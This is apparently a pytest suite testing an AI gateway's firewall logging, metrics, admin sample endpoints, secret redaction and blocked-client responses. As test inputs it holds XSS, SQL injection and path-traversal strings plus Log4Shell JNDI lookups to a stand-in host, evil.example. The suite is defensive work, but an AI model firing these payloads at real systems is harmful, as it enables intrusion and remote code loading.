"""What operators can see of the WAF of a running gateway, and that a client who is blocked sees none of it."""
import http.client
import json
import pathlib
import re
import signal
import tempfile
import time
import urllib.parse

import pytest

from harness import Gateway, wait_until

URL = "https://gateway.internal"
SECRET = "s3cr3t-of-the-root-client"
GROUPS = ("ai-gateway-protocol-rules", "ai-gateway-common-rules", "ai-gateway-ip-reputation", "ai-gateway-rate-limit",
          "ai-gateway-known-bad-inputs", "ai-gateway-sqli-rules", "ai-gateway-injection-rules")
CHAT = {"model": "echo", "messages": [{"role": "user", "content": "hello"}]}
XSS = "/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E"


def config(**waf):
    return {"auth": {"jwt": {"enabled": True}}, "enable_waf": True, "waf": waf,
            "server": {"trusted_proxies": ["127.0.0.0/8"]},
            "issuer": {"url": URL, "clients": [
                {"id": "root", "secret": SECRET, "scopes": [URL + "/admin", URL + "/invoke"]}]},
            "providers": [{"type": "echo"}]}


def ask(gateway, method, path, body=None, headers=None):
    """(status, headers, whole answer as bytes). The request has exactly these headers, and Host."""
    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=30)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        if isinstance(body, dict):
            body = json.dumps(body)
        sent = {"User-Agent": "evidence/1", **(headers or {})}
        if body is not None:
            sent = {"Content-Type": "application/json", **sent, "Content-Length": str(len(body))}
        for name, value in sent.items():
            connection.putheader(name, value)
        connection.endheaders(body.encode() if body is not None else None)
        answer = connection.getresponse()
        head = {k.lower(): v for k, v in answer.getheaders()}
        text = answer.read()
        return answer.status, head, json.dumps(head).encode() + text, text
    finally:
        connection.close()


def bearer(gateway, scope):
    form = urllib.parse.urlencode({"grant_type": "client_credentials", "client_id": "root",
                                   "client_secret": SECRET, "scope": URL + "/" + scope})
    status, _, _, text = ask(gateway, "POST", "/oauth2/token", form,
                             {"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 200, text
    return {"Authorization": "Bearer " + json.loads(text)["access_token"]}


def metrics(gateway):
    text = ask(gateway, "GET", "/metrics")[3].decode()
    return {(m[1], m[2]): int(m[3]) for m in
            re.finditer(r'^aigw_waf_requests_total\{rule="([^"]+)",action="([^"]+)"\} (\d+)$', text, re.M)}


def labels(gateway):
    text = ask(gateway, "GET", "/metrics")[3].decode()
    return {(m[1], m[2]): int(m[3]) for m in
            re.finditer(r'^aigw_waf_label_total\{label="([^"]+)",action="([^"]+)"\} (\d+)$', text, re.M)}


def lines(gateway, request_id=None):
    out = []
    for line in gateway.log().splitlines():
        if line.startswith("{"):
            record = json.loads(line)
            if record["event"] == "waf" and request_id in (None, record["httpRequest"]["requestId"]):
                out.append(record)
    return out


def line_of(gateway, request_id):
    assert wait_until(lambda: lines(gateway, request_id)), gateway.log()
    (record,) = lines(gateway, request_id)
    return record


def samples(gateway, admin, rule, query=""):
    status, head, _, text = ask(gateway, "GET", f"/admin/waf/samples?rule={rule}{query}", headers=admin)
    assert status == 200 and head["cache-control"] == "no-store", text
    return json.loads(text)


def test_a_blocked_request():
    with Gateway(config(log="matches")) as gateway:
        admin = bearer(gateway, "admin")
        before = metrics(gateway)
        assert set(before) == {(g, a) for g in GROUPS for a in ("block", "count", "pass")} | {
            ("Default_Action", "allow")}
        status, head, whole, _ = ask(gateway, "GET", XSS, headers={"X-Request-Id": "blocked-1"})
        assert status == 403 and head["x-request-id"] == "blocked-1"
        after = metrics(gateway)
        grew = {k: after[k] - before[k] for k in after if after[k] != before[k]}
        assert grew.pop(("ai-gateway-common-rules", "block")) == 1
        # Asked before it: passed. Behind it: not asked; what grew there are the two looks at the metrics.
        assert grew[("ai-gateway-protocol-rules", "pass")] == grew[("Default_Action", "allow")] + 1
        assert grew[("ai-gateway-sqli-rules", "pass")] == grew[("Default_Action", "allow")]
        label = "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"
        assert labels(gateway)[(label, "block")] == 1

        record = line_of(gateway, "blocked-1")
        assert record["level"] == "warn" and record["formatVersion"] == 1 and record["webaclId"] == "ai-gateway"
        assert abs(record["timestamp"] / 1000 - time.time()) < 600
        assert record["terminatingRuleId"] == "AWSManagedRulesCommonRuleSet"
        assert record["terminatingRuleType"] == "MANAGED_RULE_GROUP" and record["action"] == "BLOCK"
        details = record["terminatingRuleMatchDetails"][0]
        assert details["conditionType"] == "XSS" and details["location"] == "ALL_QUERY_ARGS"
        assert len(details["matchedData"]) == 1 and len(details["matchedData"][0]) <= 64
        group = [g for g in record["ruleGroupList"] if g["terminatingRule"]]
        assert len(group) == 1 and group[0]["ruleGroupId"] == "AWS#AWSManagedRulesCommonRuleSet"
        assert group[0]["terminatingRule"]["ruleId"] == "CrossSiteScripting_QUERYARGUMENTS"
        assert record["responseCodeSent"] == 403 and record["requestHeadersInserted"] is None
        assert record["httpRequest"]["clientIp"] == "127.0.0.1" and record["httpRequest"]["uri"] == "/v1/models"
        assert record["httpRequest"]["httpVersion"] == "HTTP/1.1" and record["httpRequest"]["country"] == "-"
        assert {"name": label} in record["labels"]
        assert record["httpSourceName"] == record["httpSourceId"] == "-" and record["rateBasedRuleList"] == []

        told = samples(gateway, admin, "ai-gateway-common-rules")
        assert told["PopulationSize"] == 1 and len(told["SampledRequests"]) == 1
        sample = told["SampledRequests"][0]
        assert sample["Action"] == "BLOCK" and sample["ResponseCodeSent"] == 403 and sample["Weight"] == 1
        assert sample["RuleNameWithinRuleGroup"] == \
            "AWS#AWSManagedRulesCommonRuleSet#CrossSiteScripting_QUERYARGUMENTS"
        assert sample["Request"]["URI"] == XSS and sample["Request"]["Method"] == "GET"
        assert sample["Request"]["ClientIP"] == "127.0.0.1" and sample["Request"]["Country"] == "-"
        assert sample["Request"]["HTTPVersion"] == "HTTP/1.1" and {"Name": label} in sample["Labels"]
        assert {"Name": "User-Agent", "Value": "evidence/1"} in [
            {"Name": h["Name"].title(), "Value": h["Value"]} for h in sample["Request"]["Headers"]]
        assert told["TimeWindow"]["StartTime"] <= sample["Timestamp"] <= told["TimeWindow"]["EndTime"]


def test_a_body_that_comes_later_is_evidence_too():
    with Gateway(config(log="matches")) as gateway:
        admin, invoke = bearer(gateway, "admin"), bearer(gateway, "invoke")
        attack = {**CHAT, "metadata": {"x": "${jndi:ldap://evil.example/a}"}}
        status, _, whole, _ = ask(gateway, "POST", "/v1/chat/completions", attack, {
            **invoke, "X-Request-Id": "body-1", "X-Forwarded-For": "203.0.113.9"})
        assert status == 403
        record = line_of(gateway, "body-1")
        assert record["terminatingRuleId"] == "AWSManagedRulesKnownBadInputsRuleSet"
        assert record["httpRequest"]["clientIp"] == "203.0.113.9"
        assert record["requestBodySize"] == record["requestBodySizeInspectedByWAF"] == len(json.dumps(attack))
        assert record["terminatingRuleMatchDetails"][0]["location"] == "BODY"
        sample = samples(gateway, admin, "ai-gateway-known-bad-inputs")["SampledRequests"][0]
        assert sample["Request"]["ClientIP"] == "203.0.113.9"
        # Never the body.
        assert "metadata" not in json.dumps(sample) and "hello" not in json.dumps(sample)
        assert "hello" not in json.dumps(record)


def test_mode_count_counts_and_lets_through():
    with Gateway(config(log="matches", mode="count")) as gateway:
        admin, invoke = bearer(gateway, "admin"), bearer(gateway, "invoke")
        before = metrics(gateway)
        status, _, _, _ = ask(gateway, "GET", XSS, headers={**invoke, "X-Request-Id": "counted-1"})
        assert status == 200
        after = metrics(gateway)
        assert after[("ai-gateway-common-rules", "count")] == before[("ai-gateway-common-rules", "count")] + 1
        assert after[("ai-gateway-common-rules", "block")] == 0
        record = line_of(gateway, "counted-1")
        assert record["level"] == "info" and record["action"] == "ALLOW" and record["responseCodeSent"] is None
        assert record["terminatingRuleId"] == "Default_Action" and record["terminatingRuleType"] == "REGULAR"
        (rule,) = [r for g in record["ruleGroupList"] for r in g["nonTerminatingMatchingRules"]
                   if r["ruleId"] == "CrossSiteScripting_QUERYARGUMENTS"]
        assert rule["action"] == "COUNT" and rule["overriddenAction"] == "BLOCK"
        # A counted request is there twice: under its rule and under the default action.
        (sample,) = samples(gateway, admin, "ai-gateway-common-rules")["SampledRequests"]
        assert sample["Action"] == "COUNT" and sample["OverriddenAction"] == "BLOCK"
        allowed = samples(gateway, admin, "Default_Action", "&max=500")["SampledRequests"]
        assert any(s["Request"]["URI"] == XSS and s["Action"] == "ALLOW" for s in allowed)


def test_what_is_allowed_is_sampled_and_logged_on_wish():
    with Gateway(config(log="all")) as gateway:
        admin, invoke = bearer(gateway, "admin"), bearer(gateway, "invoke")
        assert ask(gateway, "POST", "/v1/chat/completions", CHAT,
                   {**invoke, "X-Request-Id": "fine-1"})[0] == 200
        record = line_of(gateway, "fine-1")
        assert record["action"] == "ALLOW" and record["labels"] == []
        assert all(not g["terminatingRule"] and not g["nonTerminatingMatchingRules"]
                   for g in record["ruleGroupList"])
        told = samples(gateway, admin, "Default_Action", "&max=500")
        assert any(s["Request"]["URI"] == "/v1/chat/completions" for s in told["SampledRequests"])
        assert told["PopulationSize"] == len(told["SampledRequests"])
        assert len(samples(gateway, admin, "Default_Action", "&max=1")["SampledRequests"]) == 1
        assert samples(gateway, admin, "Default_Action", "&from=1&to=2")["SampledRequests"] == []


@pytest.mark.parametrize("waf, enabled", [({"log": "none", "samples": False}, True), ({"log": "all"}, False)])
def test_off_is_off(waf, enabled):
    with Gateway({**config(**waf), "enable_waf": enabled}) as gateway:
        admin = bearer(gateway, "admin")
        assert ask(gateway, "GET", XSS)[0] == (403 if enabled else 401)
        assert samples(gateway, admin, "ai-gateway-common-rules")["PopulationSize"] == 0
        assert metrics(gateway)[("ai-gateway-common-rules", "block")] == (1 if enabled else 0)
        assert wait_until(lambda: "admin_waf_samples" in gateway.log())
        assert lines(gateway) == []


def test_counters_and_samples_outlive_a_reload():
    with Gateway(config()) as gateway:
        admin = bearer(gateway, "admin")
        assert ask(gateway, "GET", XSS)[0] == 403
        changed = json.loads(gateway.config_file.read_text())
        changed["waf"]["mode"] = "count"
        gateway.config_file.write_text(json.dumps(changed))
        gateway.process.send_signal(signal.SIGHUP)
        assert wait_until(lambda: ask(gateway, "GET", XSS)[0] != 403)
        assert metrics(gateway)[("ai-gateway-common-rules", "block")] >= 1
        assert metrics(gateway)[("ai-gateway-common-rules", "count")] >= 1
        admin = bearer(gateway, "admin")
        seen = {s["Action"] for s in samples(gateway, admin, "ai-gateway-common-rules")["SampledRequests"]}
        assert seen == {"BLOCK", "COUNT"}


def test_the_rules_as_they_are_configured():
    rules = {"GenericLFI_BODY": "count", "NoUserAgent_HEADER": "none", "AWSManagedRulesSQLiRuleSet": "count"}
    with Gateway(config(rules=rules, name="edge")) as gateway:
        admin = bearer(gateway, "admin")
        told = json.loads(ask(gateway, "GET", "/admin/waf/rules", headers=admin)[3])
        assert told["name"] == "edge" and told["enabled"] is True and told["mode"] == "block"
        by_name = {r["rule"]: r for r in told["rules"]}
        assert len(by_name) == len(told["rules"])
        assert by_name["GenericLFI_BODY"]["action"] == "count"
        assert by_name["NoUserAgent_HEADER"]["action"] == "none"
        assert by_name["SQLi_BODY"]["action"] == "count" and by_name["SizeRestrictions_BODY"]["action"] == "count"
        assert by_name["GenericLFI_URIPATH"] == {
            "group": "AWSManagedRulesCommonRuleSet", "metric": "ai-gateway-common-rules",
            "rule": "GenericLFI_URIPATH", "label": "awswaf:managed:aws:core-rule-set:GenericLFI_URIPath",
            "action": "block"}
        assert by_name["AWSManagedIPDDoSList"]["action"] == "count"
        assert by_name["RateLimitPerIP"]["metric"] == "ai-gateway-rate-limit"
        assert {r["metric"] for r in told["rules"]} == set(GROUPS)
        # What it says is what happens.
        assert ask(gateway, "GET", "/healthz?q=1%27%20union%20select%20a%20from%20b--%20")[0] != 403


def test_who_may_ask_and_what():
    with Gateway(config()) as gateway:
        admin, invoke = bearer(gateway, "admin"), bearer(gateway, "invoke")
        for path in ("/admin/waf/samples?rule=Default_Action", "/admin/waf/rules"):
            assert ask(gateway, "GET", path)[0] == 401
            assert ask(gateway, "GET", path, headers=invoke)[0] in (401, 403)
            status, head, _, _ = ask(gateway, "POST", path, "", admin)
            assert status == 405 and head["allow"] == "GET"
        for query, param in (("", "rule"), ("?rule=Default_Action&max=0", "max"),
                             ("?rule=Default_Action&max=501", "max"), ("?rule=Default_Action&max=x", "max"),
                             ("?rule=Default_Action&from=-1", "from"),
                             ("?rule=Default_Action&from=9&to=8", "to"),
                             ("?rule=Default_Action&to=99999999999999999999", "to"),
                             ("?rule=Default_Action&rule=x", "query")):
            status, _, _, text = ask(gateway, "GET", "/admin/waf/samples" + query, headers=admin)
            assert status == 400 and json.loads(text)["error"]["param"] == param, (query, text)
        for rule in ("nobody", "AWSManagedRulesCommonRuleSet", ""):
            assert ask(gateway, "GET", "/admin/waf/samples?rule=" + rule, headers=admin)[0] == 404
    with Gateway({"providers": [{"type": "echo"}]}) as gateway:  # no tokens: nobody could be an admin
        assert ask(gateway, "GET", "/admin/waf/rules")[0] == 404


# What no answer to a blocked client may hold: names of rules and groups, labels, metrics, what matched, lists.
TELLTALE = re.compile(rb"waf|rule|aws|xss|script|sqli|inject|log4j|jndi|lfi|passwd|reputation|signature|firewall|"
                      rb"pattern|match|bot|metric|label|ai-gateway", re.I)
DIALECTS = ["/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1/embeddings",
            "/v1beta/models/m:generateContent", "/model/m/converse", "/openai/deployments/m/chat/completions",
            "/nowhere", "/v1/messages/nowhere", "/v1beta/nowhere"]


@pytest.mark.parametrize("path", DIALECTS)
def test_a_blocked_client_learns_a_request_id_and_nothing_else(path):
    with Gateway(config()) as gateway:
        attacks = [({}, "?q=%3Cscript%3Ealert(1)%3C/script%3E", {}), ({}, "?f=../../../../etc/passwd", {}),
                   ({"x": {"y": "${jndi:ldap://evil.example/a}"}}, "", {}), ({}, "", {"User-Agent": "nmap"}),
                   ({}, "?q=1%27%20union%20select%20a,b%20from%20c--%20", {})]
        for number, (more, query, head) in enumerate(attacks):
            sent = {"X-Request-Id": f"id-{number}", "Anthropic-Version": "2023-06-01", **head}
            status, answered, whole, text = ask(gateway, "POST", path + query, {**CHAT, **more}, {**bearer(
                gateway, "invoke"), **sent})
            assert status == 403, (path, query, text)
            assert answered["x-request-id"] == f"id-{number}"
            found = TELLTALE.search(whole)
            assert not found, whole
            assert set(answered) <= {"content-type", "content-length", "x-request-id", "date", "connection",
                                     "request-id", "x-amzn-requestid", "x-amzn-errortype", "server"}, answered


def test_no_secret_of_a_request_is_anywhere():
    held = {"authorization": "Bearer SECRET-a1", "proxy-authorization": "Basic SECRET-a2", "cookie": "s=SECRET-a3",
            "x-api-key": "SECRET-a4", "api-key": "SECRET-a5", "x-goog-api-key": "SECRET-a6",
            "x-amz-security-token": "SECRET-a7", "x-my-password": "SECRET-a8", "x-other": "Bearer SECRET-a9",
            "referer": "https://h/p?access_token=SECRET-b1&a=%3Cscript%3E"}
    query = "?key=SECRET-c1&access_token=SECRET-c2&api%5Fkey=SECRET-c3&client_secret=%3Cscript%3ESECRET-c4"
    body = {**CHAT, "metadata": {"password": "SECRET-d1 ${jndi:ldap://x/a}",
                                 "y": "api_key=SECRET-d2 ${jndi:ldap://x/a}"}, "user": "SECRET-d3"}
    with Gateway(config(log="all", mode="count")) as gateway:
        admin = bearer(gateway, "admin")
        for number, (target, sent) in enumerate([("/v1/models" + query, None), ("/v1/models", None),
                                                 ("/v1/chat/completions" + query, body),
                                                 ("/v1/chat/completions", body)]):
            ask(gateway, "POST" if sent else "GET", target, sent, {**held, "X-Request-Id": f"s-{number}"})
            line_of(gateway, f"s-{number}")
        everything = gateway.log() + ask(gateway, "GET", "/metrics")[3].decode()
        for rule in GROUPS + ("Default_Action",):
            everything += json.dumps(samples(gateway, admin, rule, "&max=500"))
        assert "REDACTED" in everything
        assert "SECRET-" not in everything, sorted(set(re.findall(r"SECRET-\w+", everything)))
        assert SECRET not in everything


def test_no_header_forges_a_line():
    with Gateway(config(log="all")) as gateway:
        evil = 'x"},"action":"FORGED","y":"\\u000a{\\"event\\":\\"waf\\"} \x1b[2J \u00e9'
        ask(gateway, "GET", "/v1/models?q=%22%7D%0A%7B%22event%22:%22waf%22%7D", headers={
            "X-Request-Id": "forge-1", "X-Evil": evil.replace("\x1b", "").encode("latin-1"), "User-Agent": evil[:8]})
        record = line_of(gateway, "forge-1")
        assert record["action"] in ("ALLOW", "BLOCK")
        assert all(l.isprintable() for l in gateway.log().splitlines())


def test_reputation_and_rate_are_evidence_too():
    with tempfile.TemporaryDirectory() as folder:
        bad, busy = pathlib.Path(folder) / "bad.txt", pathlib.Path(folder) / "busy.txt"
        bad.write_text("203.0.113.0/24\n")
        busy.write_text("198.51.100.7\n")
        lists = {"reputation": [str(bad)], "ddos": [str(busy)]}
        with Gateway(config(log="matches", ip_reputation=lists,
                            rate_limit={"limit": 20, "window_s": 3600})) as gateway:
            admin, invoke = bearer(gateway, "admin"), bearer(gateway, "invoke")

            def from_address(address, request_id):
                return ask(gateway, "GET", "/v1/models", headers={
                    **invoke, "X-Forwarded-For": address, "X-Request-Id": request_id})[0]

            assert from_address("203.0.113.5", "bad-1") == 403
            record = line_of(gateway, "bad-1")
            assert record["terminatingRuleId"] == "AWSManagedRulesAmazonIpReputationList"
            assert record["labels"] == [{"name": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"}]
            (sample,) = samples(gateway, admin, "ai-gateway-ip-reputation")["SampledRequests"]
            assert sample["RuleNameWithinRuleGroup"] == \
                "AWS#AWSManagedRulesAmazonIpReputationList#AWSManagedIPReputationList"

            assert from_address("198.51.100.7", "busy-1") == 200
            record = line_of(gateway, "busy-1")
            assert record["action"] == "ALLOW"
            assert record["labels"] == [{"name": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList"}]

            for number in range(20):
                assert from_address("192.0.2.1", f"many-{number}") == 200
            assert from_address("192.0.2.1", "many-more") == 429
            record = line_of(gateway, "many-more")
            assert record["terminatingRuleId"] == "RateLimitPerIP" and record["responseCodeSent"] == 429
            assert record["terminatingRuleType"] == "RATE_BASED"
            assert record["rateBasedRuleList"] == [{
                "rateBasedRuleId": "RateLimitPerIP", "rateBasedRuleName": "RateLimitPerIP",
                "limitKey": "FORWARDED_IP", "limitValue": "192.0.2.1", "maxRateAllowed": 20,
                "evaluationWindowSec": 3600}]
            (sample,) = samples(gateway, admin, "ai-gateway-rate-limit")["SampledRequests"]
            assert sample["Action"] == "BLOCK" and "RuleNameWithinRuleGroup" not in sample
            after = metrics(gateway)
            assert after[("ai-gateway-ip-reputation", "block")] == after[("ai-gateway-ip-reputation", "count")] == 1
            assert after[("ai-gateway-rate-limit", "block")] == 1
